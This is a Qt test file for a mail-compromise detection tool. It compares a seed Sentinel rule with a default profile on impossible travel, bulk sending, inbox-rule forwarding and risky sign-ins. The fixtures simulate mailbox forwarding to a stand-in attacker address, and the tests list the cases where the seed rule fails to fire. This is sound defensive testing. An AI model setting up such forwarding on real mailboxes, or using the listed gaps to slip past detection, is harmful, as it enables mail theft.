// The `seed` profile reproduces the seed's Sentinel rule, weaknesses included; each row shows one
// place where it and the `default` profile part ways (or agree), so a responder knows which SIEM
// alerts to expect from a case and why Mailpivot's own detectors say otherwise.
#include "detectcase.h"
#include "util/strings.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

using namespace mp;
using namespace detecttest;

using Build = void (*)(DetectCase &);
Q_DECLARE_METATYPE(Build)

namespace {

const std::string kAlice = "alice@contoso.com";

std::string parameters(std::initializer_list<std::pair<const char *, const char *>> nameValues,
                       const char *key = "Parameters")
{
    std::string json = std::string(",\"") + key + "\":[";
    bool first = true;
    for (const auto &[n, v] : nameValues) {
        json += std::string(first ? "" : ",") + "{\"Name\":\"" + n + "\",\"Value\":\"" + v + "\"}";
        first = false;
    }
    return json + "]";
}

} // namespace

class TestSeedProfile : public QObject
{
    Q_OBJECT

private slots:
    void seedAgainstDefault_data();
    void seedAgainstDefault();
    void kqlTermsDoNotMatchLongerParameterNames_data();
    void kqlTermsDoNotMatchLongerParameterNames();
    void seedBinsTravelByClockHour();
    void seedFindingsCarryTheRuleSeverity();
    void seedLookbackFollowsTheNewestEvent();
};

void TestSeedProfile::seedAgainstDefault_data()
{
    QTest::addColumn<Build>("build");
    QTest::addColumn<QString>("detector");
    QTest::addColumn<bool>("seedFires");
    QTest::addColumn<bool>("defaultFires");

    // The clock-hour bin border.
    QTest::newRow("travel across an hour boundary: seed misses") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:50:00Z", .ip = "198.51.100.1", .place = kParis});
        c.signIn({.user = kAlice, .time = "2024-03-01T11:10:00Z", .ip = "203.0.113.66", .place = kNewYork});
    }) << "ImpossibleTravel" << false << true;
    QTest::newRow("travel inside one clock hour: both") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:05:00Z", .ip = "198.51.100.1", .place = kParis});
        c.signIn({.user = kAlice, .time = "2024-03-01T10:40:00Z", .ip = "203.0.113.66", .place = kNewYork});
    }) << "ImpossibleTravel" << true << true;
    QTest::newRow("two nearby countries in one hour: seed only") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:05:00Z", .ip = "198.51.100.1", .place = kParis});
        c.signIn({.user = kAlice, .time = "2024-03-01T10:40:00Z", .ip = "198.51.100.2", .place = kBrussels});
    }) << "ImpossibleTravel" << true << false;
    QTest::newRow("travel into a non-mail app: seed misses") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:05:00Z", .ip = "198.51.100.1", .place = kParis, .app = "Azure Portal"});
        c.signIn({.user = kAlice, .time = "2024-03-01T10:40:00Z", .ip = "203.0.113.66", .place = kNewYork, .app = "Azure Portal"});
    }) << "ImpossibleTravel" << false << true;
    QTest::newRow("bulk send across an hour boundary: seed misses") << Build([](DetectCase &c) {
        c.sends(kAlice, "2024-03-01T10:30:00Z", 60, 55, "203.0.113.66");
    }) << "BulkEmailSending" << false << true;
    QTest::newRow("bulk send inside one clock hour: both") << Build([](DetectCase &c) {
        c.sends(kAlice, "2024-03-01T10:00:00Z", 55, 60, "203.0.113.66");
    }) << "BulkEmailSending" << true << true;
    QTest::newRow("bulk send split over two IPs: seed misses") << Build([](DetectCase &c) {
        c.sends(kAlice, "2024-03-01T10:00:00Z", 30, 60, "203.0.113.66");
        c.sends(kAlice, "2024-03-01T10:00:30Z", 30, 60, "203.0.113.67");
    }) << "BulkEmailSending" << false << true;
    QTest::newRow("SendAs in bulk: seed misses") << Build([](DetectCase &c) {
        c.sends(kAlice, "2024-03-01T10:00:00Z", 55, 60, "203.0.113.66", "SendAs");
    }) << "BulkEmailSending" << false << true;

    // Where forwarding is set.
    QTest::newRow("New-InboxRule ForwardTo: both") << Build([](DetectCase &c) {
        c.audit("New-InboxRule", kAlice, "2024-03-01T10:05:00", "203.0.113.66",
                parameters({{"Name", "x"}, {"ForwardTo", "drop@evil.example"}}));
    }) << "InboxRuleManipulation" << true << true;
    QTest::newRow("Set-Mailbox ForwardingSmtpAddress: seed misses") << Build([](DetectCase &c) {
        c.audit("Set-Mailbox", kAlice, "2024-03-01T10:05:00", "203.0.113.66",
                parameters({{"Identity", "alice@contoso.com"}, {"ForwardingSmtpAddress", "smtp:drop@evil.example"},
                            {"DeliverToMailboxAndForward", "True"}}));
    }) << "InboxRuleManipulation" << false << true;
    QTest::newRow("UpdateInboxRules forward action: seed misses") << Build([](DetectCase &c) {
        c.audit("UpdateInboxRules", kAlice, "2024-03-01T10:05:00", "203.0.113.66",
                parameters({{"RuleName", "sync"},
                            {"RuleActions", R"([{\"ActionType\":\"ForwardToRecipientsAction\",\"Recipients\":[\"drop@evil.example\"]}])"},
                            {"RuleOperation", "AddMailboxRule"}},
                           "OperationProperties"));
    }) << "InboxRuleManipulation" << false << true;
    QTest::newRow("operation in lower case: seed misses") << Build([](DetectCase &c) {
        c.audit("new-inboxrule", kAlice, "2024-03-01T10:05:00", "203.0.113.66",
                parameters({{"Name", "x"}, {"ForwardTo", "drop@evil.example"}}));
    }) << "InboxRuleManipulation" << false << true;
    QTest::newRow("rule clearing its forwarding: seed only") << Build([](DetectCase &c) {
        // ForwardTo set to $null switches forwarding off; the term is still in Parameters.
        c.audit("Set-InboxRule", kAlice, "2024-03-01T10:05:00", "198.51.100.1",
                parameters({{"Identity", "alice\\\\x"}, {"ForwardTo", "$null"}}));
    }) << "InboxRuleManipulation" << true << false;

    // Risk.
    QTest::newRow("risky sign-in to a non-mail app: seed misses") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:00:00Z", .ip = "203.0.113.10", .app = "Azure Portal", .riskLevel = "high"});
    }) << "RiskySignIn" << false << true;
    QTest::newRow("low risk: seed misses") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:00:00Z", .ip = "203.0.113.10", .riskLevel = "low"});
    }) << "RiskySignIn" << false << true;
    QTest::newRow("IsRisky only: both") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:00:00Z", .ip = "203.0.113.10", .isRisky = 1});
    }) << "RiskySignIn" << true << true;
    QTest::newRow("risky but failed: neither") << Build([](DetectCase &c) {
        c.signIn({.user = kAlice, .time = "2024-03-01T10:00:00Z", .ip = "203.0.113.10", .result = 50126, .riskLevel = "high"});
    }) << "RiskySignIn" << false << false;
}

void TestSeedProfile::seedAgainstDefault()
{
    QFETCH(Build, build);
    QFETCH(QString, detector);
    QFETCH(bool, seedFires);
    QFETCH(bool, defaultFires);
    DetectCase c;
    build(c);
    const DetectionResult seed = c.detect(Profile::Seed);
    const DetectionResult def = c.detect(Profile::Default);
    QVERIFY(seed.ok && def.ok);
    const auto seedFound = findingsOf(seed, detector.toStdString(), kAlice);
    const auto defaultFound = findingsOf(def, detector.toStdString(), kAlice);
    QVERIFY2(seedFound.empty() != seedFires, seedFound.empty() ? "seed found nothing" : seedFound.front()->summary.c_str());
    QVERIFY2(defaultFound.empty() != defaultFires,
             defaultFound.empty() ? "default found nothing" : defaultFound.front()->summary.c_str());
}

void TestSeedProfile::kqlTermsDoNotMatchLongerParameterNames_data()
{
    QTest::addColumn<QString>("parameters");
    QTest::addColumn<QString>("term");
    QTest::addColumn<bool>("matches");
    // has_any("ForwardTo") against Set-Mailbox's parameter names: a term, not a substring.
    QTest::newRow("ForwardingSmtpAddress") << R"({"Name":"ForwardingSmtpAddress","Value":"smtp:x@evil.example"})" << "ForwardTo" << false;
    QTest::newRow("DeliverToMailboxAndForward") << R"({"Name":"DeliverToMailboxAndForward","Value":"True"})" << "ForwardTo" << false;
    QTest::newRow("ForwardTo") << R"({"Name":"ForwardTo","Value":"x@evil.example"})" << "ForwardTo" << true;
    QTest::newRow("ForwardAsAttachmentTo is not ForwardTo") << R"({"Name":"ForwardAsAttachmentTo","Value":"x"})" << "ForwardTo" << false;
    QTest::newRow("SoftDeleteMessage is not DeleteMessage") << R"({"Name":"SoftDeleteMessage","Value":"True"})" << "DeleteMessage" << false;
    QTest::newRow("case does not matter") << R"({"Name":"movetofolder","Value":"x"})" << "MoveToFolder" << true;
}

void TestSeedProfile::kqlTermsDoNotMatchLongerParameterNames()
{
    QFETCH(QString, parameters);
    QFETCH(QString, term);
    QFETCH(bool, matches);
    QCOMPARE(hasTermKql(parameters.toStdString(), term.toStdString()), matches);
}

void TestSeedProfile::seedBinsTravelByClockHour()
{
    // Three countries in one hour are one seed finding with all three, first seen at the first.
    DetectCase c;
    c.signIn({.user = kAlice, .time = "2024-03-01T10:01:00Z", .ip = "198.51.100.1", .place = kParis});
    c.signIn({.user = kAlice, .time = "2024-03-01T10:20:00Z", .ip = "203.0.113.66", .place = kNewYork});
    c.signIn({.user = kAlice, .time = "2024-03-01T10:59:00Z", .ip = "203.0.113.77", .place = kLagos});
    const DetectionResult r = c.detect(Profile::Seed);
    const auto found = findingsOf(r, "ImpossibleTravel");
    QCOMPARE(found.size(), std::size_t(1));
    QCOMPARE(found.front()->evidence.size(), std::size_t(3));
    QCOMPARE(found.front()->firstTimeMs, ms("2024-03-01T10:01:00Z"));
    const QJsonObject d = QJsonDocument::fromJson(QByteArray::fromStdString(found.front()->details)).object();
    QCOMPARE(d.value(QStringLiteral("countries")).toArray().size(), 3);
    QCOMPARE(d.value(QStringLiteral("bin_start")).toString(), QStringLiteral("2024-03-01T10:00:00.000Z"));
}

void TestSeedProfile::seedFindingsCarryTheRuleSeverity()
{
    DetectCase c;
    c.signIn({.user = kAlice, .time = "2024-03-01T10:00:00Z", .ip = "203.0.113.10", .riskLevel = "medium"});
    c.audit("New-InboxRule", kAlice, "2024-03-01T10:05:00", "198.51.100.1",
            parameters({{"Name", "Newsletters"}, {"MoveToFolder", "Newsletters"}}));
    const DetectionResult r = c.detect(Profile::Seed);
    QCOMPARE(r.findings.size(), std::size_t(2));
    for (const Finding &f : r.findings) {
        QCOMPARE(f.severity, Severity::High);
        QVERIFY(f.fingerprint.find(":seed:") != std::string::npos);
    }
    // The organising rule is a seed alert (MoveToFolder is one of its terms), but only
    // informational for the default profile.
    const DetectionResult d = c.detect(Profile::Default);
    const auto rules = findingsOf(d, "InboxRuleManipulation");
    QCOMPARE(rules.size(), std::size_t(1));
    QCOMPARE(rules.front()->severity, Severity::Informational);
}

void TestSeedProfile::seedLookbackFollowsTheNewestEvent()
{
    // Look-back counts from the newest event of the case, not from now: a sign-in 30 hours before
    // it is out of the seed's 24 hours, one 2 hours before it is in; lookback_hours widens it.
    DetectCase c;
    c.signIn({.user = kAlice, .time = "2024-03-01T04:00:00Z", .ip = "203.0.113.10", .riskLevel = "high"});
    c.signIn({.user = kAlice, .time = "2024-03-02T08:00:00Z", .ip = "203.0.113.11", .riskLevel = "high"});
    c.audit("Send", kAlice, "2024-03-02T10:00:00", "198.51.100.1");
    const DetectionResult r = c.detect(Profile::Seed);
    const auto found = findingsOf(r, "RiskySignIn");
    QCOMPARE(found.size(), std::size_t(1));
    QCOMPARE(found.front()->ips.front(), std::string("203.0.113.11"));
    const DetectionResult wide = c.detect(Profile::Seed, tuningFrom(R"({"lookback_hours": 48})"));
    QCOMPARE(findingsOf(wide, "RiskySignIn").size(), std::size_t(2));
    const DetectionResult def = c.detect(Profile::Default);
    QCOMPARE(findingsOf(def, "RiskySignIn").size(), std::size_t(2));
}

QTEST_GUILESS_MAIN(TestSeedProfile)
#include "tst_seedprofile.moc"
